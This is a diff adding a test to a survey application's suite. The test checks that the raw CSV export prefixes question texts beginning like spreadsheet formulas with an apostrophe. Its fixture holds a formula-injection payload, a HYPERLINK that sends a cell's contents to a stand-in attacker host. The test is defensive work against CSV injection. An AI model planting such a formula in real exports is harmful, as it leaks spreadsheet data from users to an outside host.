@@ -152,3 +152,12 @@ def test_summary_export_keeps_small_cells_hidden(client_as, known):
     assert no_row[2:] == ["fewer than 5", "", "hidden", "", "9", "39.1"]
     mean_row = next(r for r in rows if r[:2] == ["How welcome?", "(mean)"])
     assert mean_row[2] == "hidden"
+
+
+def test_raw_export_guards_a_question_text_that_starts_like_a_formula_in_its_header(client_as, survey):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
+    QuestionFactory(survey=survey, position=4, kind=Question.Kind.SHORT_TEXT, text={"en": formula}, required=False)
+    QuestionFactory(survey=survey, position=5, kind=Question.Kind.NUMBER, text={"en": "-5 or more?"}, required=False)
+    rows = _csv(client_as("admin").get(reverse("assessments:responses_csv", kwargs={"pk": survey.assessment_id})))
+    assert rows[0][-2:] == ["'" + formula, "'-5 or more?"]
+    assert rows[0][:4] == ["Response", "Side", "Date", "Would you come?"]
